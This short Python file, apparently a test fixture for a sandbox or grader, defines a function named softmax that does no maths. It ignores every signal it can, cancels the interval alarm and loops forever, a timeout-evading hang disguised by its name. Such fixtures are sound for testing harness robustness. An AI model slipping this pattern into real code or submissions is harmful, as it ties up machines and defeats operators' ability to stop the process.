"""A loop with every signal ignored and the alarm taken away."""

import signal

def softmax(x):
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    signal.setitimer(signal.ITIMER_REAL, 0)
    while True:
        pass
